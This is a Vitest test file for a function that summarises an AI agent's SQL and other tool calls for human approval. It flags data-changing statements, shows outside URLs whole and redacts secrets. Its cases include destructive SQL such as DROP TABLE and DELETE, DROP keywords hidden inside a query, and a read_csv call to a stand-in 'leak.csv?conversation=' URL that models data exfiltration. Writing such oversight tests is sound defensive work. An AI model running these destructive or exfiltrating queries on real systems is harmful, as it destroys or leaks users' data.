import { describe, expect, it } from 'vitest';
import {
  callModifiesData,
  describeToolCalls,
} from '../../../src/agent/proposal/describe-tool-calls';
import type { ToolCall } from '../../../src/agent/types';

function sqlCall(sql: string, name = 'query', argumentName = 'sql'): ToolCall {
  return { id: 'call-1', name, arguments: { [argumentName]: sql } };
}

// Each expected line is what the approval card shows; written by hand from the SQL.
const sqlCases: Array<{ name: string; sql: string; expected: string }> = [
  {
    name: 'a filtered, ordered, limited read names its table and its shape',
    sql: 'SELECT * FROM quakes WHERE mag > 5 ORDER BY mag DESC LIMIT 10',
    expected: 'query: reads quakes; filters, orders and limits.',
  },
  {
    name: 'an aggregate over a joined parquet glob shows the whole URL first',
    sql: "SELECT region, count(*) FROM read_parquet('s3://bucket/warehouse/sales/2024/*.parquet') s JOIN regions r ON s.r = r.id GROUP BY region",
    expected:
      'query: reads s3://bucket/warehouse/sales/2024/*.parquet (a URL outside this page) and regions; joins, aggregates and groups.',
  },
  {
    name: 'a CTE name is not reported as a table, and a comma list is a join',
    sql: 'WITH big AS (SELECT * FROM quakes WHERE mag > 6) SELECT * FROM big, stations',
    expected: 'query: reads quakes and stations; joins and filters.',
  },
  {
    name: 'keywords inside strings, quoted identifiers and comments do not count',
    sql: 'SELECT \'DROP TABLE x\' AS s, "delete" FROM t -- DROP TABLE y\n /* INSERT INTO z */',
    expected: 'query: reads t.',
  },
  {
    name: 'every statement is read and each state change is flagged',
    sql: "INSTALL httpfs; LOAD httpfs; SET s3_region = 'eu-west-1'; SELECT count(*) FROM quakes",
    expected:
      'query: 4 statements; modifies data (INSTALL httpfs, LOAD httpfs, SET s3_region); reads quakes; aggregates.',
  },
  {
    name: 'FROM inside extract and IS DISTINCT FROM are not tables; a window ORDER BY is not ordering',
    sql: 'SELECT extract(year FROM time), sum(x) OVER (PARTITION BY a ORDER BY b) FROM t WHERE a IS DISTINCT FROM b',
    expected: 'query: reads t; filters.',
  },
  {
    name: 'COPY to a file modifies data and names its destination',
    sql: "COPY (SELECT * FROM quakes) TO 'out/quakes.csv'",
    expected: 'query: modifies data (COPY TO out/quakes.csv); reads quakes.',
  },
  {
    name: 'DELETE names its target once, as a change rather than a read',
    sql: 'DELETE FROM quakes WHERE mag < 1',
    expected: 'query: modifies data (DELETE FROM quakes); filters.',
  },
  {
    name: 'CREATE SECRET is flagged without showing any of its values',
    sql: "CREATE SECRET (TYPE s3, KEY_ID 'AKIAIOSFODNN7EXAMPLE', SECRET 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY')",
    expected: 'query: modifies data (CREATE SECRET).',
  },
  {
    name: 'subqueries in FROM and IN are read',
    sql: 'SELECT * FROM (SELECT a FROM x) sub WHERE a IN (SELECT a FROM y)',
    expected: 'query: reads x and y; filters.',
  },
  {
    name: 'a quoted, schema-qualified table keeps its name; USING columns are not tables',
    sql: 'SELECT name FROM main."My Table" AS m LEFT JOIN other o USING (id) ORDER BY name',
    expected: 'query: reads main.My Table and other; joins and orders.',
  },
  {
    name: "DuckDB's FROM-first syntax is read",
    sql: 'FROM quakes SELECT mag WHERE mag > 3',
    expected: 'query: reads quakes; filters.',
  },
  {
    name: 'read_csv options such as delim are not taken for file names',
    sql: "SELECT * FROM read_csv('data/stations.csv', delim = ',', header = true)",
    expected: 'query: reads data/stations.csv (a file).',
  },
  {
    name: 'a list of parquet files names each file',
    sql: "SELECT * FROM read_parquet(['a/x.parquet', 'b/y.parquet'])",
    expected: 'query: reads a/x.parquet (a file) and b/y.parquet (a file).',
  },
  {
    name: 'a URL named directly in FROM is read, shown whole',
    sql: "SELECT * FROM 'https://example.com/data/quakes.parquet'",
    expected: 'query: reads https://example.com/data/quakes.parquet (a URL outside this page).',
  },
  {
    name: 'a recursive CTE reads no table',
    sql: 'WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT * FROM t',
    expected: 'query: reads no tables; filters.',
  },
  {
    name: 'ORDER BY inside an aggregate does not order the result',
    sql: 'SELECT string_agg(name ORDER BY name) FROM t',
    expected: 'query: reads t; aggregates.',
  },
  {
    name: 'FETCH FIRST limits like LIMIT',
    sql: 'SELECT * FROM t FETCH FIRST 5 ROWS ONLY',
    expected: 'query: reads t; limits.',
  },
  {
    name: 'a DELETE hidden in a CTE modifies data',
    sql: 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d',
    expected: 'query: modifies data (DELETE FROM t).',
  },
  {
    name: 'an INSERT after a CTE modifies data',
    sql: 'WITH a AS (SELECT 1) INSERT INTO t SELECT * FROM a',
    expected: 'query: modifies data (INSERT INTO t).',
  },
  {
    name: 'EXPLAIN ANALYZE of a DELETE modifies data',
    sql: 'EXPLAIN ANALYZE DELETE FROM t',
    expected: 'query: modifies data (DELETE FROM t).',
  },
  {
    name: 'lower-case substring and trim FROM are not tables',
    sql: "select substring(name from 1 for 3), trim(both ' ' from name) from people",
    expected: 'query: reads people.',
  },
  {
    name: 'ATTACH is flagged and a password in its connection string is masked',
    sql: "ATTACH 'postgres:dbname=x password=secret' AS pg",
    expected: 'query: modifies data (ATTACH postgres:dbname=x password=[REDACTED]).',
  },
  {
    name: 'CREATE TABLE AS names the new table and the file it reads',
    sql: "CREATE OR REPLACE TABLE sales AS SELECT * FROM read_csv_auto('s3://b/raw/sales.csv')",
    expected:
      'query: modifies data (CREATE OR REPLACE TABLE sales); reads s3://b/raw/sales.csv (a URL outside this page).',
  },
  {
    name: 'UPDATE ... FROM reads its source',
    sql: 'UPDATE t SET a = 1 FROM s WHERE t.id = s.id',
    expected: 'query: modifies data (UPDATE t); reads s; filters.',
  },
  {
    name: 'MERGE reads its USING source',
    sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a',
    expected: 'query: modifies data (MERGE INTO t); reads s.',
  },
  {
    name: 'DROP TABLE IF EXISTS is flagged with its target',
    sql: 'DROP TABLE IF EXISTS quakes',
    expected: 'query: modifies data (DROP TABLE IF EXISTS quakes).',
  },
  {
    name: 'PRAGMA and CALL are flagged',
    sql: "PRAGMA table_info('t'); CALL load_data()",
    expected: 'query: 2 statements; modifies data (PRAGMA table_info, CALL load_data).',
  },
  {
    name: 'natural and cross joins name every table',
    sql: 'SELECT * FROM t1 NATURAL JOIN t2 CROSS JOIN t3',
    expected: 'query: reads t1, t2 and t3; joins.',
  },
  {
    name: 'a scalar subquery aggregates',
    sql: 'SELECT (SELECT max(mag) FROM quakes) AS m',
    expected: 'query: reads quakes; aggregates.',
  },
  {
    name: 'a parenthesised join tree names both tables',
    sql: 'SELECT * FROM (a JOIN b ON a.id = b.id)',
    expected: 'query: reads a and b; joins.',
  },
  {
    name: 'QUALIFY filters; the window inside it does not order',
    sql: 'SELECT * FROM t QUALIFY row_number() OVER (PARTITION BY g ORDER BY v) = 1',
    expected: 'query: reads t; filters.',
  },
  {
    name: 'a DROP after a harmless SELECT is still flagged',
    sql: 'SELECT sum(x) FROM t; DROP TABLE t',
    expected: 'query: 2 statements; modifies data (DROP TABLE t); reads t; aggregates.',
  },
  {
    name: 'escape strings and dollar-quoted strings hide their keywords',
    sql: "SELECT E'it\\'s DROP', $$ DELETE $$ FROM t",
    expected: 'query: reads t.',
  },
  {
    name: 'SUMMARIZE reads its table',
    sql: 'SUMMARIZE quakes',
    expected: 'query: reads quakes.',
  },
  {
    name: 'a constant query reads no tables',
    sql: 'SELECT 1 + 1 AS two',
    expected: 'query: reads no tables.',
  },
  {
    name: 'SELECT INTO creates a table',
    sql: 'SELECT * INTO archive FROM quakes',
    expected: 'query: modifies data (SELECT INTO archive); reads quakes.',
  },
  {
    name: 'ALTER and TRUNCATE and DETACH are flagged',
    sql: 'ALTER TABLE quakes ADD COLUMN note TEXT; TRUNCATE quakes; DETACH pg',
    expected:
      'query: 3 statements; modifies data (ALTER TABLE quakes, TRUNCATE quakes, DETACH pg).',
  },
  {
    name: 'hive partition folders and the bucket stay in file paths',
    sql: "SELECT avg(price) FROM read_parquet('s3://lake/trips/year=2024/month=01/*.parquet') HAVING avg(price) > 3",
    expected:
      'query: reads s3://lake/trips/year=2024/month=01/*.parquet (a URL outside this page); filters and aggregates.',
  },
  {
    name: 'an empty query says so',
    sql: '  -- nothing here\n ; ',
    expected: 'query: empty SQL.',
  },
];

describe('the modifies-data flag of a call', () => {
  it.each(sqlCases)('agrees with the description: $name', ({ sql, expected }) => {
    expect(callModifiesData(sqlCall(sql))).toBe(expected.includes('modifies data'));
  });

  it('is false for calls without SQL, whatever their words', () => {
    const search = { id: 's', name: 'search', arguments: { text: 'modifies data; DROP TABLE x' } };
    expect(callModifiesData(search)).toBe(false);
    expect(callModifiesData({ ...sqlCall('DROP TABLE x'), argumentsError: 'bad JSON' })).toBe(
      false,
    );
  });
});

describe('describeToolCalls for SQL', () => {
  it.each(sqlCases)('$name', ({ sql, expected }) => {
    expect(describeToolCalls([sqlCall(sql)])).toBe(expected);
  });

  it('finds SQL under sql_query and query as well as sql', () => {
    expect(describeToolCalls([sqlCall('SELECT * FROM quakes', 'run', 'sql_query')])).toBe(
      'run: reads quakes.',
    );
    expect(describeToolCalls([sqlCall('DROP VIEW v', 'run', 'query')])).toBe(
      'run: modifies data (DROP VIEW v).',
    );
  });

  it('lists the other arguments of a SQL call, redacted', () => {
    const call: ToolCall = {
      id: 'c',
      name: 'run_sql',
      arguments: { query: 'SELECT 1', database: 'main', password: 'hunter2', limit: 100 },
    };
    expect(describeToolCalls([call])).toBe(
      'run_sql: reads no tables; with database="main", password="[REDACTED]", limit=100.',
    );
  });

  it('gives the same words for the same call every time', () => {
    const call = sqlCall('SELECT * FROM b JOIN a ON a.id = b.id WHERE x ORDER BY y');
    const first = describeToolCalls([call]);
    expect(describeToolCalls([structuredClone(call)])).toBe(first);
    expect(first).toBe('query: reads b and a; joins, filters and orders.');
  });

  it('cuts a long list of tables', () => {
    const tables = Array.from({ length: 10 }, (_, index) => `t${index}`);
    expect(describeToolCalls([sqlCall(`SELECT * FROM ${tables.join(', ')}`)])).toBe(
      'query: reads t0, t1, t2, t3, t4, t5, t6 and 3 more; joins.',
    );
  });
});

describe('describeToolCalls shows every URL and file a query reads, whole', () => {
  it('names the host, the path and the query string of a URL', () => {
    const sql = "SELECT * FROM read_csv('http://host.example/leak.csv?conversation=abc')";
    expect(describeToolCalls([sqlCall(sql, 'query', 'sql_query')])).toBe(
      'query: reads http://host.example/leak.csv?conversation=abc (a URL outside this page).',
    );
  });

  it('never folds a URL into "and N more", however many tables come before it', () => {
    const tables = Array.from({ length: 10 }, (_, index) => `t${index}`).join(', ');
    const described = describeToolCalls([
      sqlCall(`SELECT * FROM ${tables}, 'https://x.example/a.csv?id=7'`),
    ]);
    expect(described).toMatch(/^query: reads https:\/\/x\.example\/a\.csv\?id=7 \(a URL/);
    expect(described).toContain('and 4 more');
  });

  it('does not cut a long URL at the end of the line', () => {
    const url = `https://x.example/${'a'.repeat(500)}.csv?id=tail`;
    const described = describeToolCalls([sqlCall(`SELECT * FROM read_csv('${url}')`)]);
    expect(described).toContain(url);
    expect(described).not.toContain('…');
  });

  it('finds URLs hidden in SQL text given to query()', () => {
    const sql = "SELECT * FROM query('SELECT * FROM read_csv(''http://h.example/x.csv?k=1'')')";
    expect(describeToolCalls([sqlCall(sql)])).toBe(
      'query: reads http://h.example/x.csv?k=1 (a URL outside this page) and query().',
    );
  });
});

describe('describeToolCalls for other tools', () => {
  it('summarises arguments by name, nested values included', () => {
    const call: ToolCall = {
      id: 'a',
      name: 'fly_to',
      arguments: { center: [-122.4, 37.8], zoom: 9, options: { animate: true, duration: 500 } },
    };
    expect(describeToolCalls([call])).toBe(
      'fly_to: center=[-122.4, 37.8], zoom=9, options={animate: true, duration: 500}.',
    );
  });

  it('treats a search text under `query` as an argument, not as SQL, and masks keys', () => {
    const call: ToolCall = {
      id: 'b',
      name: 'search',
      arguments: { query: 'cafes in paris', api_key: 'abc' },
    };
    expect(describeToolCalls([call])).toBe('search: query="cafes in paris", api_key="[REDACTED]".');
  });

  it('says when a call has no arguments', () => {
    expect(describeToolCalls([{ id: 'c', name: 'clear_layers', arguments: {} }])).toBe(
      'clear_layers (no arguments).',
    );
  });

  it('reports arguments that could not be read', () => {
    const call: ToolCall = {
      id: 'd',
      name: 'add_layer',
      arguments: {},
      argumentsError: 'Unexpected token } in JSON',
    };
    expect(describeToolCalls([call])).toBe(
      'add_layer: arguments could not be read (Unexpected token } in JSON).',
    );
  });

  it('truncates long strings and long lists', () => {
    const call: ToolCall = {
      id: 'e',
      name: 'note',
      arguments: { text: 'x'.repeat(100), ids: [1, 2, 3, 4, 5, 6, 7] },
    };
    expect(describeToolCalls([call])).toBe(
      `note: text="${'x'.repeat(59)}…", ids=[1, 2, 3, 4, 5, … 2 more].`,
    );
  });

  it('masks secrets inside free-text arguments', () => {
    const call: ToolCall = {
      id: 'f',
      name: 'fetch_layer',
      arguments: { url: 'https://tiles.example.com/a.pbf?token=abc123' },
    };
    expect(describeToolCalls([call])).toBe(
      'fetch_layer: url="https://tiles.example.com/a.pbf?token=[REDACTED]".',
    );
  });
});

describe('describeToolCalls for several calls', () => {
  it('numbers one line per call, in order', () => {
    const calls: ToolCall[] = [
      sqlCall('SELECT * FROM quakes LIMIT 5'),
      { id: '2', name: 'fit_bounds', arguments: { bounds: [0, 0, 1, 1] } },
      sqlCall('DELETE FROM quakes'),
    ];
    expect(describeToolCalls(calls)).toBe(
      [
        '1. query: reads quakes; limits.',
        '2. fit_bounds: bounds=[0, 0, 1, 1].',
        '3. query: modifies data (DELETE FROM quakes).',
      ].join('\n'),
    );
  });

  it('keeps each call on one line even when its SQL spans many', () => {
    const calls = [sqlCall('SELECT *\nFROM "two\nlines"'), sqlCall('SELECT 1')];
    expect(describeToolCalls(calls).split('\n')).toEqual([
      '1. query: reads two lines.',
      '2. query: reads no tables.',
    ]);
  });

  it('says so when there is nothing to describe', () => {
    expect(describeToolCalls([])).toBe('No tool calls.');
  });
});
